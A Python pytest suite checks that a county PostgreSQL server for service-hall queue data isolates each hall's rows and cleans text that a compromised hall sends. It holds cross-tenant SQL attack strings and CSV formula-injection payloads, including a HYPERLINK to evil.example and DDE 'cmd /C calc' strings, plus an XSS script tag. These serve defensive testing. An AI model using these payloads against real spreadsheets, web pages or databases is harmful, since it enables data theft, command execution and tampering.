"""A compromised hall PC against the county (issue 22 item 2, item 7's county CSV, and odd or
huge text in what a hall sends), on a real PostgreSQL set up as docs/central.md says: hwd-central's
role owns the database, each hall gets its role from ``hwd-central county add-hall``.

- Hall A's login, by plain SQL or through hwd's own sink configured with hall B's id, cannot
  change, add or delete a single row of hall B (tickets, ratings, halls row, daily rollup,
  records) nor read them: PostgreSQL refuses (row-level security, grants), and A's own delivery
  still works. ``remove-hall`` stops a stolen login at its next statement.
- Whatever hall A puts in its own rows (a name of megabytes, bidi overrides, stacked combining
  marks, NaN and infinite times, a day past year 9999, formulas as staff names) does not break
  hwd-central's pages, API or CSV export for the other halls.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "county"))

from county_helpers import County, documented_database, documented_server, query  # noqa: E402

from hwd import outbox  # noqa: E402
from bench import hall_days  # noqa: E402
from hwd.hall.config.central import Central  # noqa: E402

DAY = dt.date(2026, 7, 6)  # fixed, never today
_counter = iter(range(1, 10 ** 6))


@pytest.fixture(scope="module")
def pg_server():
    pytest.importorskip("psycopg", reason="county tests need psycopg 3: pip install -e '.[central]'")
    from hwd.county.localpg import LocalPostgres, Unavailable

    try:
        server = LocalPostgres()
    except Unavailable as exc:
        pytest.skip(f"county tests need PostgreSQL: {exc}")
    try:
        server.start()
        documented_server(server)
        yield server
    finally:
        server.destroy()


def new_county(tmp_path, server) -> County:
    return County(tmp_path, documented_database(server, f"sec{next(_counter)}"), server)


class Clock:
    tz = hall_days.TZ

    def now(self):
        return dt.datetime(2026, 7, 6, 17, 0, tzinfo=hall_days.TZ)


def sink(dsn: str, hall_id: str, tmp_path):
    from hwd.county.sink import PostgresSink
    from hwd.hall.store import Store

    path = tmp_path / f"{hall_id}-{next(_counter)}.sqlite3"
    Store(path, "normal").close()  # the heartbeat reads its (empty) outbox
    return PostgresSink(Central(dsn=dsn, hall_id=hall_id, heartbeat_s=3600, retry_s=0.1, retry_max_s=0.3,
                                connect_timeout_s=2), path, Clock(), f"hall {hall_id}")


def records(origin: str, day_index: int = 0, per_day: int = 30, first_id: int = 1) -> list[outbox.Record]:
    items = hall_days.day_records(DAY + dt.timedelta(days=day_index), day_index, per_day)
    return [outbox.Record(first_id + i, f"{origin}:{kind}:{ref}", kind, ref, payload, ts)
            for i, (kind, ref, payload, ts) in enumerate(items)]


def deliver(dsn: str, hall_id: str, batch: list[outbox.Record], tmp_path) -> list:
    s = sink(dsn, hall_id, tmp_path)
    try:
        return s.deliver_batch(batch)
    finally:
        s.close()


TABLES = ("halls", "records", "tickets", "ticket_events", "ratings", "workorders", "workorder_steps", "windows",
          "window_events", "devices", "device_events", "daily_rollup")


def rows_of(pg: str, hall_id: str) -> dict:
    """Every row of the hall, table by table, as the county's superuser reads them."""
    return {t: sorted(map(repr, query(pg, f"SELECT * FROM {t} WHERE hall_id = %s", (hall_id,)))) for t in TABLES}


@pytest.fixture(scope="module")
def two_halls(pg_server, tmp_path_factory):
    """Halls a and b, each with its role from add-hall, each with a day delivered by its own sink."""
    tmp = tmp_path_factory.mktemp("two-halls")
    county = new_county(tmp, pg_server)
    dsn = {h: county.add_hall(h, name=f"{h} 便民服务中心") for h in ("a", "b")}
    for h in ("a", "b"):
        outcomes = deliver(dsn[h], h, records(h), tmp)
        assert outcomes and all(isinstance(o, outbox.Sent) for o in outcomes), outcomes
    yield county, dsn
    county.drop_roles()


# -- item 2: a hall writes (and reads) only its own rows ----------------------------------------------
# (name, SQL run as hall a); each must raise or touch no row
ATTACKS = [
    ("update b's tickets", "UPDATE tickets SET state = 'no_show', score = 1 WHERE hall_id = 'b'"),
    ("update b's ratings (差评)", "UPDATE ratings SET score = 1 WHERE hall_id = 'b'"),
    ("update b's halls row", "UPDATE halls SET name = '冒名', pending = 999, today = '2020-01-01' WHERE hall_id = 'b'"),
    ("update b's rollup", "UPDATE daily_rollup SET bad = bad + 50, s1 = s1 + 50 WHERE hall_id = 'b'"),
    ("update b's work orders", "UPDATE workorders SET state = 'closed' WHERE hall_id = 'b'"),
    ("update b's records", "UPDATE records SET payload = '{}' WHERE hall_id = 'b'"),
    ("delete b's rollup", "DELETE FROM daily_rollup WHERE hall_id = 'b'"),
    ("delete b's tickets", "DELETE FROM tickets WHERE hall_id = 'b'"),
    ("delete b's ratings", "DELETE FROM ratings WHERE hall_id = 'b'"),
    ("delete b's records", "DELETE FROM records WHERE hall_id = 'b'"),
    ("insert 差评 for b", "INSERT INTO ratings SELECT (jsonb_populate_record(r, jsonb_build_object("
                        "'hall_id', 'b', 'rating_id', 900000 + rating_id, 'score', 1))).* FROM ratings r "
                        "WHERE hall_id = 'a'"),
    ("insert tickets for b", "INSERT INTO tickets SELECT (jsonb_populate_record(t, jsonb_build_object("
                             "'hall_id', 'b', 'ticket_id', 900000 + ticket_id))).* FROM tickets t WHERE hall_id = 'a'"),
    ("upsert over b's tickets", "INSERT INTO tickets SELECT (jsonb_populate_record(t, jsonb_build_object("
                                "'hall_id', 'b', 'state', 'no_show'))).* FROM tickets t WHERE hall_id = 'a' "
                                "ON CONFLICT (hall_id, ticket_id) DO UPDATE SET state = 'no_show', rec_id = 0"),
    ("insert rollup rows for b", "INSERT INTO daily_rollup SELECT (jsonb_populate_record(r, jsonb_build_object("
                                 "'hall_id', 'b', 'bad', 50))).* FROM daily_rollup r WHERE hall_id = 'a'"),
    ("insert records for b", "INSERT INTO records SELECT (jsonb_populate_record(r, jsonb_build_object("
                             "'hall_id', 'b', 'key', 'x' || r.key))).* FROM records r WHERE hall_id = 'a'"),
    ("upsert b's halls row", "INSERT INTO halls (hall_id, name) VALUES ('b', '冒名') "
                             "ON CONFLICT (hall_id) DO UPDATE SET name = '冒名'"),
    ("a halls row for a hall the county never made", "INSERT INTO halls (hall_id, name) VALUES ('c', '假大厅')"),
    ("move a's own rows into b", "UPDATE tickets SET hall_id = 'b', ticket_id = ticket_id + 900000 "
                                 "WHERE hall_id = 'a'"),
    ("truncate", "TRUNCATE tickets, ratings, daily_rollup"),
    ("take b's place in the role map", "UPDATE hall_roles SET hall_id = 'b' WHERE role_name = current_user"),
    ("add itself to b in the role map", "INSERT INTO hall_roles (role_name, hall_id) VALUES ('hall_a2', 'b')"),
    ("a temporary table standing for the role map",
     "CREATE TEMP TABLE hall_roles (role_name text, hall_id text); "
     "INSERT INTO hall_roles VALUES (current_user, 'b'); "
     "UPDATE ratings SET score = 1 WHERE hall_id = 'b'"),
    ("as the halls' group role", "SET ROLE hwd_halls; UPDATE ratings SET score = 1 WHERE hall_id = 'b'"),
    ("a table of its own", "CREATE TABLE notes (x text)"),
]


def test_a_halls_login_cannot_change_another_halls_rows_with_plain_sql(two_halls):
    import psycopg

    county, dsn = two_halls
    before = rows_of(county.pg, "b")
    assert before["tickets"] and before["ratings"] and before["daily_rollup"] and before["halls"]
    done = []
    for name, sql in ATTACKS:
        with psycopg.connect(dsn["a"], autocommit=True) as conn:
            try:
                cur = conn.execute(sql)
            except psycopg.Error:
                continue  # refused by PostgreSQL
            if cur.rowcount > 0 or name.startswith(("a halls row", "a table")):
                done.append(name)
    assert done == [], f"hall a's login did this to other halls' rows: {done}"
    assert rows_of(county.pg, "b") == before
    assert query(county.pg, "SELECT hall_id FROM halls ORDER BY 1") == [("a",), ("b",)]
    assert query(county.pg, "SELECT COUNT(*) FROM hall_roles WHERE hall_id = 'b'") == [(1,)]


def test_a_halls_login_cannot_read_another_halls_rows(two_halls):
    import psycopg

    county, dsn = two_halls
    with psycopg.connect(dsn["a"], autocommit=True) as conn:
        seen = {t: conn.execute(f"SELECT COUNT(*) FROM {t} WHERE hall_id <> 'a'").fetchone()[0]
                for t in ("halls", "records", "tickets", "ratings", "daily_rollup")}
        assert conn.execute("SELECT COUNT(*) FROM tickets").fetchone()[0] > 0, "its own rows it sees"
    assert seen == dict.fromkeys(seen, 0), seen


def test_hwd_sink_with_hall_bs_id_and_as_login_is_refused_by_postgresql(two_halls, tmp_path):
    county, dsn = two_halls
    before = rows_of(county.pg, "b")
    # b's own records with every rating turned into a 差评, and a day b never had
    forged = [outbox.Record(r.id + 10 ** 6, r.key, r.kind, r.ref,
                            dict(r.payload, score=1) if r.kind == "rating" else r.payload, r.ts)
              for r in records("b")] + records("b", day_index=1, first_id=5000)
    s = sink(dsn["a"], "b", tmp_path)
    try:
        outcomes = s.deliver_batch(forged)
        s.report()  # the heartbeat's UPDATE of b's halls row
    finally:
        s.close()
    assert len(outcomes) == 1 and isinstance(outcomes[0], outbox.DeliveryError), outcomes
    assert "refused hall 'b'" in str(outcomes[0]) and "row-level security" in str(outcomes[0])
    assert rows_of(county.pg, "b") == before
    # hall a's own delivery goes on as before
    more = records("a", day_index=1, first_id=5000)
    assert all(isinstance(o, outbox.Sent) and not o.duplicate for o in deliver(dsn["a"], "a", more, tmp_path))
    assert query(county.pg, "SELECT COUNT(*) FROM tickets WHERE hall_id = 'a' AND issued_date = %s",
                 (DAY + dt.timedelta(days=1),))[0][0] > 0


def test_the_halls_group_holds_exactly_the_sinks_grants(two_halls):
    from hwd.county import roles, schema

    county, _ = two_halls
    got: dict[str, set] = {}
    for table, privilege in query(county.pg, "SELECT table_name, privilege_type FROM "
                                             "information_schema.role_table_grants WHERE grantee = %s", (roles.GROUP,)):
        got.setdefault(table, set()).add(privilege)
    assert got == {t: {p.strip() for p in ps.split(",")} for t, ps in roles.GRANTS.items()}
    assert set(schema.HALL_TABLES) <= set(roles.GRANTS)
    assert not any("TRUNCATE" in ps or "REFERENCES" in ps or "TRIGGER" in ps for ps in got.values())
    # every table a hall can write has the policy, and it is enabled
    secured = {t for t, on in query(county.pg, "SELECT relname, relrowsecurity FROM pg_class WHERE relname = ANY(%s)",
                                    (list(roles.GRANTS),)) if on}
    assert set(schema.HALL_TABLES) <= secured


def test_remove_hall_stops_a_stolen_login_at_its_next_statement(pg_server, tmp_path):
    import psycopg

    county = new_county(tmp_path, pg_server)
    try:
        dsn = county.add_hall("stolen")
        listed = subprocess.run([sys.executable, "-m", "central.cli", "--config", county.config, "county",
                                 "list-halls"], capture_output=True, text=True, timeout=60)
        assert listed.returncode == 0 and listed.stdout.startswith("stolen\thall_stolen\tlogin\t"), listed
        with psycopg.connect(dsn, autocommit=True) as conn:  # the thief's open session
            conn.execute("UPDATE halls SET pending = 1 WHERE hall_id = 'stolen'")
            conn.execute("CREATE TEMP TABLE keep (x int)")  # something the role owns: DROP ROLE must wait
            out = subprocess.run([sys.executable, "-m", "central.cli", "--config", county.config, "county",
                                  "remove-hall", "stolen"], capture_output=True, text=True, timeout=60)
            assert out.returncode == 0, out.stderr
            assert "may no longer log in" in out.stdout, out.stdout
            for sql in ("UPDATE halls SET pending = 2 WHERE hall_id = 'stolen'",
                        "INSERT INTO halls (hall_id) VALUES ('stolen2')",
                        "INSERT INTO hall_roles (role_name, hall_id) VALUES (current_user, 'stolen')"):
                try:
                    assert conn.execute(sql).rowcount == 0, sql
                except psycopg.Error:
                    pass  # refused: the role is gone
            try:
                assert conn.execute("SELECT COUNT(*) FROM tickets").fetchone()[0] == 0
            except psycopg.Error:
                pass  # refused: no privileges left
        with pytest.raises(psycopg.OperationalError):
            psycopg.connect(dsn, connect_timeout=5).close()
        assert query(county.pg, "SELECT rolcanlogin FROM pg_roles WHERE rolname = 'hall_stolen'") == [(False,)]
        # a hall whose role owns nothing: the role is dropped at once
        county.add_hall("lost")
        out = subprocess.run([sys.executable, "-m", "central.cli", "--config", county.config, "county",
                              "remove-hall", "lost"], capture_output=True, text=True, timeout=60)
        assert out.returncode == 0 and "role hall_lost dropped" in out.stdout, (out.stdout, out.stderr)
        assert query(county.pg, "SELECT COUNT(*) FROM pg_roles WHERE rolname = 'hall_lost'") == [(0,)]
        assert query(county.pg, "SELECT pending FROM halls WHERE hall_id = 'stolen'") == [(1,)], "its rows stay"
        again = subprocess.run([sys.executable, "-m", "central.cli", "--config", county.config, "county",
                                "remove-hall", "stolen"], capture_output=True, text=True, timeout=60)
        assert again.returncode == 2 and "no role" in again.stderr
    finally:
        county.drop_roles()


# -- what a hall puts in its own rows cannot break hwd-central for the others ------------------------
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def supervisor(county: County):
    """A logged-in supervisor's client of hwd-central (the app over the county's config)."""
    from central import create_app

    client = create_app(county.config).test_client()
    env = {"REMOTE_ADDR": "127.0.0.1"}
    page = client.get("/login", environ_base=env).get_data(as_text=True)
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    assert client.post("/login", data={"password": "s3cret-pw", "csrf_token": token},
                       environ_base=env).status_code == 302
    return client


def strict_json(body: bytes):
    def refuse(name):
        raise ValueError(f"not JSON: {name}")
    return json.loads(body, parse_constant=refuse)


def rollup_row(hall: str, window: str, staff: str, service: str, **values) -> tuple[str, tuple]:
    """An INSERT of one daily_rollup row (a hall-day of one window, staff and matter)."""
    from hwd.county import rollup

    row = {c: 0 for c in rollup.COLUMNS} | {"issued": 1} | values
    cols = ("hall_id", "day", "window_id", "staff", "service") + rollup.COLUMNS
    sql = f"INSERT INTO daily_rollup ({', '.join(cols)}) VALUES ({', '.join(['%s'] * len(cols))})"
    return sql, (hall, DAY, window, staff, service, *(row[c] for c in rollup.COLUMNS))


def test_the_county_csv_export_escapes_formulas_as_the_halls_does(pg_server, tmp_path):
    """Item 7: window, staff and matter names a hall sends are cells of the county's CSV; a formula
    among them is written with a leading apostrophe (hwd.csvcells, the hall's own escaping)."""
    import psycopg

    from hwd.county import schema

    county = new_county(tmp_path, pg_server)
    with psycopg.connect(county.central_dsn, autocommit=True) as conn:
        schema.migrate(conn)  # as hwd-central does at start
    client = supervisor(county)
    with psycopg.connect(county.pg, autocommit=True) as conn:
        conn.execute("INSERT INTO halls (hall_id, name, today) VALUES ('a', 'a', %s)", (DAY,))
        for p in PAYLOADS:
            conn.execute(*rollup_row("a", p, p, p))
    for group in ("window", "staff", "matter"):
        resp = client.get(f"/table?group={group}&period=day&date={DAY}&hall=a&format=csv",
                          environ_base={"REMOTE_ADDR": "127.0.0.1"})
        assert resp.status_code == 200
        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True), newline="")))
        assert sorted(r[1] for r in rows[1:]) == sorted("'" + p for p in PAYLOADS), (group, rows)
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r), rows
    from hwd.hall.stats import to_csv

    # one function for both: the hall's export of the same text is the same cell
    hall_rows = list(csv.reader(io.StringIO(to_csv([{"staff": p} for p in PAYLOADS]), newline="")))
    assert [r[0] for r in hall_rows[1:]] == ["'" + p for p in PAYLOADS]


def test_odd_unicode_huge_text_and_impossible_numbers_of_one_hall_do_not_break_the_others(pg_server, tmp_path):
    """Halls a1–a3 fill their own rows with what a compromised hall may write there (a name of a
    megabyte with a bidi override, stacked combining marks, a script tag and a terminal escape;
    an infinite or year-9999 day; NaN and infinite times and sums; staff and windows of 300 kB).
    Hall b's numbers still come whole and right from every page, the API (strict JSON) and the
    CSV, each of bounded size, with nothing of the odd text but its cleaned first characters."""
    import psycopg

    from central import queries

    county = new_county(tmp_path, pg_server)
    client = supervisor(county)
    env = {"REMOTE_ADDR": "127.0.0.1"}
    dsn_b = county.add_hall("b", name="城关镇便民服务中心", role="hall_b_honest")
    assert all(isinstance(o, outbox.Sent) for o in deliver(dsn_b, "b", records("b"), tmp_path))
    with psycopg.connect(dsn_b, autocommit=True) as conn:
        conn.execute("UPDATE halls SET today = %s WHERE hall_id = 'b'", (DAY,))
    huge = "\u202e" + "滥" * 300_000 + "<script>alert(1)</script>" + "a" + "\u0301" * 5000 + "\u2028x\x1b[2J"
    with psycopg.connect(county.pg, autocommit=True) as conn:  # what a hall may write in its own rows
        conn.execute("INSERT INTO halls (hall_id, name, today, received_at, lag_at_report_s, heartbeat_s) "
                     "VALUES ('a1', %s, 'infinity', 'infinity', 'NaN', 'NaN')", (huge,))
        conn.execute("INSERT INTO halls (hall_id, name, today, received_at, lag_at_report_s) "
                     "VALUES ('a2', %s, '9999-12-31', now(), 'Infinity')", ("\u202e" + "x\u0300" * 40,))
        conn.execute("INSERT INTO halls (hall_id, name, today) VALUES ('a3', 'a3', %s)", (DAY,))
        # today's tickets with impossible times: NaN and infinite waits
        for i, (issued, called) in enumerate([("NaN", "NaN"), ("-Infinity", "Infinity"), ("0", "Infinity")]):
            conn.execute("INSERT INTO tickets (hall_id, ticket_id, issued_date, state, issued_ts, first_called_ts, "
                         "rec_id, staff) VALUES ('a3', %s, %s, 'called', %s, %s, 1, %s)",
                         (i, DAY, issued, called, huge[:500]))  # indexed columns hold at most ~2 kB
        conn.execute("INSERT INTO windows (hall_id, window_id, state, rec_id) VALUES ('a3', %s, 'open', 1)",
                     (huge[:500],))
        for i in range(20):
            conn.execute(*rollup_row("a3", f"{i}{huge}", f"\u202e{i}" + "滥" * 100_000,
                                     f"{i}a" + "\u0300" * 3000, wait_sum=float("nan"), wait_count=1,
                                     service_sum=float("inf"), service_count=1))
    b_api = {"hall_id": "b", "issued_today": 30}
    api = strict_json(client.get("/api/halls", environ_base=env).get_data())
    assert [h["hall_id"] for h in api] == ["a1", "a2", "a3", "b"]
    b = next(h for h in api if h["hall_id"] == "b")
    assert {k: b[k] for k in b_api} == b_api and b["name"] == "hall b" and b["today"] == str(DAY)
    for h in api:
        assert h["name"] is None or (len(h["name"]) <= queries.TEXT_MAX and "\u202e" not in h["name"]
                                     and "\u2028" not in h["name"] and "\x1b" not in h["name"]), h["name"][:80]
    page = client.get("/", environ_base=env)
    assert page.status_code == 200 and len(page.data) < 200_000, (page.status_code, len(page.data))
    text = page.get_data(as_text=True)
    assert "hall b" in text and "\u202e" not in text and "<script>alert" not in text
    for path in (f"/table?group=staff&period=day&date={DAY}", f"/table?group=window&period=quarter&date={DAY}",
                 f"/table?group=matter&period=day&date={DAY}", "/table?group=hall&period=day", "/table"):
        resp = client.get(path, environ_base=env)
        assert resp.status_code == 200 and len(resp.data) < 400_000, (path, resp.status_code, len(resp.data))
        assert "\u202e" not in resp.get_data(as_text=True)
    table = strict_json(client.get(f"/api/table?group=staff&period=day&date={DAY}", environ_base=env).get_data())
    mine = [r for r in table["rows"] if r["hall_id"] == "b"]
    assert sum(r["issued"] for r in mine) == 30, "hall b's table is whole"
    assert all(len(r["staff"]) <= queries.TEXT_MAX for r in table["rows"])
    assert all(r["mean_wait_s"] is None for r in table["rows"] if r["hall_id"] == "a3")
    export = client.get(f"/table?group=staff&period=day&date={DAY}&format=csv", environ_base=env)
    assert export.status_code == 200 and len(export.data) < 100_000
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
    assert sum(int(r[2]) for r in rows[1:] if r[0] == "hall b") == 30  # the hall by its name
    assert all(len(c) <= queries.TEXT_MAX + 1 for r in rows for c in r)


def test_odd_unicode_and_huge_text_in_a_halls_records_reach_the_county_or_are_rejected_alone(pg_server, tmp_path):
    """Text the county can hold (bidi overrides, combining marks, emoji, 100 kB of reason) goes in
    as it is; a record it cannot hold (a NUL, a lone surrogate, a window name too long for an
    index) is rejected alone — it must not stall the hall's feed as if the link were down."""
    county = new_county(tmp_path, pg_server)
    try:
        dsn = county.add_hall("u")
        batch = records("u", per_day=6)
        last = {r.payload["ticket"]["id"]: i for i, r in enumerate(batch) if r.kind == "ticket"}
        tickets = sorted(last.values())[:4]  # the newest record of four tickets: what the county keeps of each
        odd = "\u202e窗口\u0301\u0301\u0301🙂\u200d" + "长" * 100_000

        def with_ticket(i: int, **change) -> None:
            r = batch[i]
            batch[i] = outbox.Record(r.id, r.key, r.kind, r.ref, dict(r.payload, ticket=dict(r.payload["ticket"],
                                                                                            **change)), r.ts)
        with_ticket(tickets[0], holder=odd)  # not indexed: the county keeps it
        with_ticket(tickets[1], staff="s\x00")
        with_ticket(tickets[2], holder="\ud800")
        with_ticket(tickets[3], window_id="".join(chr(0x4E00 + i * 7919 % 20000) for i in range(5000)))  # no btree
        # index row holds that, even compressed
        outcomes = deliver(dsn, "u", batch, tmp_path)
        assert len(outcomes) == len(batch), outcomes
        rejected = [i for i, o in enumerate(outcomes) if isinstance(o, outbox.Rejected)]
        assert rejected == tickets[1:4], [(i, o) for i, o in enumerate(outcomes) if not isinstance(o, outbox.Sent)]
        assert query(county.pg, "SELECT COUNT(*) FROM records WHERE hall_id = 'u'")[0][0] == len(batch) - 3
        assert query(county.pg, "SELECT COUNT(*) FROM tickets WHERE hall_id = 'u' AND holder = %s", (odd,)) == [(1,)]
    finally:
        county.drop_roles()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_text_a_hall_sends_is_shown_short_and_without_control_or_format_characters(text):
    import unicodedata

    from central import queries

    out = queries.shown(text)
    assert len(out) <= queries.TEXT_MAX
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp") for ch in out)
    run = 0
    for ch in out:
        run = run + 1 if unicodedata.category(ch) in ("Mn", "Me") else 0
        assert run <= queries.MAX_MARKS


def test_the_names_a_hall_reports_are_bounded_and_cleaned_and_its_own(pg_server, tmp_path):
    """Issue 24 item 7: each hall reports the names of its windows, staff, matters and devices
    (``halls.names``), which hwd-central reads for every hall on every page. A hall's login may
    write its own row only, never more than ``NAMES_MAX_BYTES`` (PostgreSQL refuses it); what it
    writes within that — bidi overrides, control characters, stacked marks, a script tag, thousands
    of names, shapes that are no table — reaches the pages cleaned and bounded, and hall b keeps
    its own names."""
    import psycopg
    from psycopg.types.json import Jsonb

    from central import queries
    from hwd.county import schema

    county = new_county(tmp_path, pg_server)
    client = supervisor(county)
    env = {"REMOTE_ADDR": "127.0.0.1"}
    dsn_a = county.add_hall("a", name="hall a", role="hall_a_names")
    dsn_b = county.add_hall("b", name="hall b", role="hall_b_names")
    with psycopg.connect(dsn_b, autocommit=True) as conn:
        conn.execute("UPDATE halls SET today = %s, names = %s WHERE hall_id = 'b'",
                     (DAY, Jsonb({"window": {"1": "城关 1号窗口"}, "device": {"win1-led": "城关 1号窗口 窗口屏"}})))
    with psycopg.connect(county.pg, autocommit=True) as conn:
        conn.execute(*rollup_row("b", "1", "s1", "bdc"))
        conn.execute("INSERT INTO devices (hall_id, device, kind, state, rec_id) VALUES ('b', 'win1-led', 'display', "
                     "'offline', 1)")
    big = {"window": {str(i): "长" * 200 for i in range(2000)}}
    odd = {"window": {"1": "\u202e" + "x\u0300" * 40 + "<script>alert(1)</script>\x1b[2J\u2028y",
                      "\u202e" + "k" * 500: "long key"} | {f"w{i}": f"窗口{i}" for i in range(3000)},
           "staff": ["not", "a", "table"], "device": "nor this", "service": {"bdc": 7}}
    with psycopg.connect(dsn_a, autocommit=True) as conn:
        with pytest.raises(psycopg.errors.CheckViolation):
            conn.execute("UPDATE halls SET names = %s WHERE hall_id = 'a'", (Jsonb(big),))
        assert len(json.dumps(big, ensure_ascii=False).encode()) > schema.NAMES_MAX_BYTES
        conn.execute("UPDATE halls SET today = %s, names = %s WHERE hall_id = 'a'", (DAY, Jsonb(odd)))
        # its own row only: hall b's names are not hall a's to write
        assert conn.execute("UPDATE halls SET names = '{}' WHERE hall_id = 'b'").rowcount == 0
    with psycopg.connect(county.pg, autocommit=True) as conn:
        conn.execute(*rollup_row("a", "1", "s1", "bdc"))
    with psycopg.connect(county.pg) as conn:
        names = queries.hall_names(conn)
    assert names["b"]["window"] == {"1": "城关 1号窗口"}
    shown_a = names["a"]
    assert len(shown_a["window"]) == queries.NAMES_PER_KIND and shown_a["staff"] == {} and shown_a["device"] == {}
    assert shown_a["service"] == {}, "a name that is no text is left out"
    for key, name in shown_a["window"].items():
        assert len(key) <= queries.TEXT_MAX and len(name) <= queries.TEXT_MAX
        assert not any(ch in key + name for ch in "\u202e\x1b\u2028"), (key, name)
    page = client.get("/", environ_base=env)
    assert page.status_code == 200 and "城关 1号窗口 窗口屏" in page.get_data(as_text=True)
    for path in (f"/table?group=window&period=day&date={DAY}", f"/table?group=window&period=day&date={DAY}&format=csv"):
        resp = client.get(path, environ_base=env)
        text = resp.get_data(as_text=True)
        assert resp.status_code == 200 and len(resp.data) < 100_000, (path, len(resp.data))
        assert "\u202e" not in text and "\x1b" not in text and "\u2028" not in text, path
        assert "<script>alert" not in text or path.endswith("csv"), path   # HTML escaped; CSV cells are text
        assert "城关 1号窗口" in text, path
